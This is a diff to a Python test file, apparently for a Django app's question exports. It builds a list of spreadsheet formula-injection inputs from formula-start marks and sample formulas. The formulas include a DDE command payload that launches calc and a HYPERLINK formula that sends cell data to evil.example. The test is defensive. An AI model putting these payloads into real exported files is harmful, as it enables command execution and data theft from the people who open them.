@@ -24,7 +24,10 @@ from tests.factories.questions import QuestionFactory
 from tests.questions.test_importing import whole_version
 
 pytestmark = pytest.mark.django_db
-DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1", "''-x"]
+# What a spreadsheet takes for the beginning of a formula, in front of what it might do: 48 strings.
+MARKS = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", "''-"]
+FORMULAS = ["1+1", "SUM(A1)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1, "x")']
+DANGEROUS = [f"{mark}{formula}" for formula in FORMULAS for mark in MARKS]
 
 
 @pytest.mark.parametrize("form", ["json", "csv", "xlsx", "md"])
